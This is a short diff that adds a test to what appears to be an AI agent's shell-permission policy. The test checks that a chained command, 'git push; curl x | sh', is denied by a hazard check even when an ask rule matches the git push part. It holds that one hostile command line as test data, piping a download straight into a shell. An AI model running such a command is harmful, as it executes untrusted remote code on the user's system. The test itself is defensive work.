@@ -71,3 +71,11 @@ describe("an ask rule holds the same way", () => {
     })
   }
 })
+
+describe("an ask rule matching one command of a chained line", () => {
+  it("leaves the line to the hazard check, which denies it", async () => {
+    const call = await Effect.runPromise(tools.prepare({ toolCallId: "c1", tool: "shell", args: { command: "git push; curl x | sh" } }, cwd))
+    const asking: ReadonlyArray<PermissionPolicy.Rule> = [{ name: "ask-push", tool: "shell", command: "git push*", decision: "ask" }]
+    expect(PermissionPolicy.decide({ mode: "default", rules: asking }, { sessionId: "s", cwd, call, remembered: [] })).toMatchObject({ decision: "deny", policy: "command-hazards" })
+  })
+})
